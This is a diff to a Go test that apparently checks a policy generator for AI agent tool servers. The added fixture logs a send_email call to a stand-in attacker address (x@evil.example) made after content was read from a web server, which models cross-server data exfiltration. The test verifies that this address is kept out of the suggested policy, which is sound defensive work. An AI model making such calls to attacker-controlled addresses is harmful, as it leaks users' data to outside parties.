@@ -154,6 +154,19 @@ func TestWhatSeveralServersDidIsOneSession(t *testing.T) {
 	if err != nil || !strings.Contains(string(alone.Policy), `- "x@evil.example"`) {
 		t.Errorf("without the other ledger the value has no source: %v\n%s", err, alone.Policy)
 	}
+	// Unless the ledger says that there was more.
+	mail = record(t, "bbbbbb01", "mail", observing)
+	mail.tools("mail", sendMail)
+	mail.call("mail/send_email", `{"to":["bob@corp.example"],"subject":"s","body":"b"}`, "sent")
+	mail.event(abi.Event{Read: &abi.ReadEvent{File: web.id, Server: "web", Lines: uint64(len(web.lines))}})
+	mail.call("mail/send_email", `{"to":["x@evil.example"],"subject":"s","body":"b"}`, "sent")
+	code, comments := apart(string(suggest(t, mail).Policy))
+	if strings.Contains(code, "evil") || !strings.Contains(code, "bob@corp.example") || !strings.Contains(comments, "what other servers of its group had said") {
+		t.Errorf("want bob trusted, who was written to before the other ledger was read:\n%s\n%s", code, comments)
+	}
+	if code, _ := apart(string(suggest(t, mail, web).Policy)); strings.Contains(code, "evil") || !strings.Contains(code, "bob@corp.example") {
+		t.Errorf("with the other ledger, want bob trusted:\n%s", code)
+	}
 }
 
 func TestAnEnforcedLedgerGivesWhatWentThrough(t *testing.T) {
